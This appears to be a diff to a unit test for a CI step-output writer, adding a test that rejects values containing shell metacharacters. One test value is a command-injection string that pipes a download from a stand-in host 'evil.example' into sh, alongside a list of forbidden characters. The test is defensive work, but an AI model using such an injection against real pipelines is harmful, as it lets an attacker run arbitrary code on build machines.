@@ -19,7 +19,41 @@ describe('step outputs', () => {
   });
 
   it('refuses a value that holds the delimiter', () => {
-    expect(() => outputCommands({ a: 'x\nD\ny' }, 'D')).toThrow('output a holds the delimiter D');
+    expect(() => outputCommands({ a: 'xDy' }, 'D')).toThrow('output a holds the delimiter D');
+  });
+
+  it('refuse a value a shell would read more in than its text: newline, quote, $, ;, backquote…', () => {
+    // The forged report's inconclusive output, as the security review found it.
+    const injected = 'MR9"; curl https://evil.example | sh; echo "';
+    expect(() => outputCommands({ inconclusive: injected }, 'D')).toThrow(
+      `output inconclusive holds a character a shell reads: ${JSON.stringify(injected)}`,
+    );
+    for (const bad of [
+      'a\nb',
+      'a\rb',
+      '"',
+      "'",
+      '$x',
+      'a;b',
+      '`id`',
+      'a&b',
+      'a|b',
+      '(x)',
+      '<x',
+      '>x',
+      '{x}',
+    ]) {
+      expect(() => outputCommands({ v: bad }, 'D'), bad).toThrow('holds a character a shell reads');
+    }
+    const safe = {
+      passed: 'true',
+      inconclusive: 'MR2,MR3,flip-rate-ratio:dead-code,attack-relative-degradation:wir-random',
+      'mr1-rate': '1e-7',
+      'report-json': '/home/runner/work/_temp/metacompress/report-gates_tiny.yml.json',
+      'comment-url': 'https://github.com/octo/distil/pull/7#issuecomment-12',
+      windows: 'D:\\a\\_temp\\report.json',
+    };
+    expect(outputCommands(safe, 'DELIM')).toContain(`inconclusive<<DELIM${EOL}MR2,MR3,`);
   });
 
   it.skipIf(!existsSync('/dev/full'))(
